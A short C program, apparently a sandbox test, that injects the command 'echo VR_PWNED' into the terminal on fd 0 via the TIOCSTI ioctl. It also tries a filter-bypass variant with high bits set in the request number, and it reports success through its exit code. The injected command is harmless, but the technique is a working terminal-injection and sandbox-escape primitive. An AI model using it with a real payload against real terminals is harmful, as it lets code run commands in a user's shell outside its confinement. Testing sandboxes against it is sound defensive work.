/* attack-tiocsti: pushes "echo PWNED" into the terminal on fd 0 with
 * TIOCSTI (plain, then with junk in the high 32 bits of the request).
 * Exit 0 when any push worked, 1 when all were refused. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void)
{
	static const char cmd[] = "echo VR_PWNED\n";
	int worked = 0;
	for (int variant = 0; variant < 2; variant++) {
		unsigned long req = TIOCSTI | (variant ? 0x100000000UL : 0);
		int ok = 1;
		for (const char *p = cmd; *p; p++)
			if (syscall(SYS_ioctl, 0, req, p) < 0) {
				printf("variant %d refused: %s\n", variant, strerror(errno));
				ok = 0;
				break;
			}
		worked |= ok;
	}
	return worked ? 0 : 1;
}
